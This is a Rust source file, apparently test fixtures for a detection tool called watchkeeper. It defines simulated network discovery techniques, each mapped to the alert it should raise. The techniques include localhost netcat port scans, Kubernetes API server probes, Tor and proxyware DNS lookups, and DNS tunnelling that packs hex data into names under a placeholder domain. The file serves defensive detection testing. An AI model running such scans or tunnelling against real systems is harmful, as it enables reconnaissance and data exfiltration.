//! Discovery, and who is talked to.

use super::Technique;
use watchkeeper::proto::v1::Severity::{High, Low, Medium};

pub(super) const TECHNIQUES: &[Technique] = &[
    Technique::new(
        "scan",
        "for p in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29 30; do \
                 b nc -w 1 127.0.0.1 40$p </dev/null; done",
        &[("net.scan", Medium)],
    ),
    Technique::new(
        "ssh-client",
        "b nc -l -p 22 127.0.0.1 </dev/null >/dev/null & b sleep 1; echo x | b nc -w 1 127.0.0.1 22",
        &[("net.ssh", Low)],
    ),
    Technique::new(
        "api-server-by-its-port",
        "b nc -w 1 127.0.0.1 6443",
        &[("net.apiserver", Low)],
    ),
    Technique::new(
        "api-server-by-its-address",
        "b ip addr add 10.96.0.1/32 dev lo; b nc -w 1 10.96.0.1 443",
        &[("net.apiserver", Low)],
    )
    .with(&["--cap-add", "NET_ADMIN"]),
    Technique::new(
        "name-of-tor",
        "b timeout 1 /bin/busybox nslookup hidden.onion 127.0.0.1",
        &[("net.tor-or-paste", Low)],
    ),
    Technique::new(
        "name-of-proxyware",
        "b timeout 1 /bin/busybox nslookup api.honeygain.com 127.0.0.1",
        &[("net.proxyware", Medium)],
    ),
    Technique::new(
        "arguments-of-proxyware",
        "/bin/true -tou-accept -email a@example.com",
        &[("net.proxyware", Medium)],
    ),
    Technique::new(
        "data-in-names",
        "for i in $(b seq 40); do \
         b timeout 1 /bin/busybox nslookup 4d5a90000300000004000000ffff0000b800000000000000$i.t.example 127.0.0.1 & \
         done; wait",
        &[("net.tunnel", High)],
    ),
];
